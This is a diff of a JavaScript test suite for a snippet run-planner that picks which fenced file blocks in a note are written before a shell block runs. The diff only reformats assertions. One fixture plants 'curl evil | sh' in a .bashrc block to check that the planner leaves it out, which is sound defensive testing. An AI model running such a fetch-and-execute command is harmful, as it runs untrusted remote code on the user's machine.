@@ -118,16 +118,26 @@ describe('snippets: run plans', () => {
     // # Build (line 0) · AluTop.v · the run · tb.cpp · ## Appendix (line 12) · <details> .bashrc
     const bashrc = fence('sh file=.bashrc', 'curl evil | sh', 16);
     const plan = planRun([module, run, testbench, bashrc], run, [0, 12]);
-    assert.deepEqual(plan.files.map((f) => f.name), ['AluTop.v', 'tb.cpp']);
+    assert.deepEqual(
+      plan.files.map((f) => f.name),
+      ['AluTop.v', 'tb.cpp'],
+    );
     const underAppendix = planRun([module, run, testbench, bashrc], run, [0, 5, 12]);
-    assert.deepEqual(underAppendix.files.map((f) => f.name), ['tb.cpp'], 'a heading between the module and the run splits them');
+    assert.deepEqual(
+      underAppendix.files.map((f) => f.name),
+      ['tb.cpp'],
+      'a heading between the module and the run splits them',
+    );
   });
 
   it('writes exactly the file blocks a snippet names with files=, wherever they are', () => {
     const named = fence('bash {files=tb.cpp}', 'g++ tb.cpp', 6);
     const plan = planRun([module, named, testbench], named, [0, 5, 9]);
     assert.deepEqual(plan.errors, []);
-    assert.deepEqual(plan.files.map((f) => f.name), ['tb.cpp']);
+    assert.deepEqual(
+      plan.files.map((f) => f.name),
+      ['tb.cpp'],
+    );
   });
 
   it('refuses to run when files= names a file the note has no block for', () => {
@@ -139,7 +149,10 @@ describe('snippets: run plans', () => {
   it('uses the later of two file blocks with one name, and says so', () => {
     const again = fence('verilog file=./AluTop.v', 'module AluTop2; endmodule', 20);
     const plan = planRun([module, run, again], run);
-    assert.deepEqual(plan.files.map((f) => f.content), ['module AluTop2; endmodule\n']);
+    assert.deepEqual(
+      plan.files.map((f) => f.content),
+      ['module AluTop2; endmodule\n'],
+    );
     assert.match(plan.warnings[0], /AluTop\.v is written by the blocks at lines 3 and 21; the later one is used/);
   });
 
@@ -151,7 +164,10 @@ describe('snippets: run plans', () => {
   });
 
   it('refuses blocks that are not runnable, saying why', () => {
-    assert.match(planRun([other], other).errors[0], /line 15 is not runnable: language "python" is not one of bash, sh, shell, zsh, console/);
+    assert.match(
+      planRun([other], other).errors[0],
+      /line 15 is not runnable: language "python" is not one of bash, sh, shell, zsh, console/,
+    );
     assert.match(planRun([module], module).errors[0], /is not runnable: it is a file block \(file=AluTop\.v\)/);
     const indented = { ...fence('bash', 'ls'), fenced: false };
     assert.match(planRun([indented], indented).errors[0], /only fenced blocks run/);
